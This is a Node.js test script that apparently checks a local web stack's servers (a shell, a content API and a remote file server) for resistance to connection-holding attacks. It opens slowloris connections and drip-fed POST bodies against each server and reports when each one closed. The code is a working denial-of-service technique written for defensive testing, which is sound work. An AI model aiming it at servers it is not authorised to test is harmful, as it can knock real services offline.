// Attack: hold connections open. Against each server of the running stack (the shell, content-api
// and a remote's file server), at once: a slowloris (headers one line every 2 s, never finished)
// and a drip-fed body (a declared 10 KB body, one byte every 2 s). Prints when each server closed
// each connection (the figure its README promises), up to 100 s.
import net from 'node:net';
import { API, print, REMOTE, SHELL } from './common.mjs';

const GIVE_UP_MS = 100_000;
const EVERY_MS = 2000;

function hold(base, first, drip) {
  const { hostname, port } = new URL(base);
  return new Promise((resolve) => {
    const started = performance.now();
    const socket = net.connect(Number(port), hostname === 'localhost' ? '127.0.0.1' : hostname);
    let answered = '';
    const timer = setInterval(() => socket.write(drip), EVERY_MS);
    const done = (how) => {
      clearInterval(timer);
      socket.destroy();
      resolve({ closedAfterS: Number(((performance.now() - started) / 1000).toFixed(1)), how, answer: answered.split('\r\n')[0] || null });
    };
    socket.on('connect', () => socket.write(first));
    socket.on('data', (chunk) => (answered += chunk.toString()));
    socket.on('close', () => done('closed by the server'));
    socket.on('error', () => undefined);
    setTimeout(() => done('still open'), GIVE_UP_MS);
  });
}

const slowloris = (base) => hold(base, `GET / HTTP/1.1\r\nHost: localhost\r\n`, 'X-Slow: 1\r\n');
const dripBody = (base, path, type) =>
  hold(base, `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: ${type}\r\nContent-Length: 10000\r\n\r\n`, 'a');

const form = 'application/x-www-form-urlencoded';
const targets = {
  'shell slowloris': slowloris(SHELL),
  'shell drip-fed body': dripBody(SHELL, '/services', form),
  'content-api slowloris': slowloris(API),
  'content-api drip-fed body': dripBody(API, '/scheduling?office=summerlin', form),
  'remote slowloris': slowloris(REMOTE),
  'remote drip-fed body': dripBody(REMOTE, '/mf-manifest.json', form),
};
const results = Object.fromEntries(await Promise.all(Object.entries(targets).map(async ([name, held]) => [name, await held])));
print('slowloris and drip-fed bodies', { results });
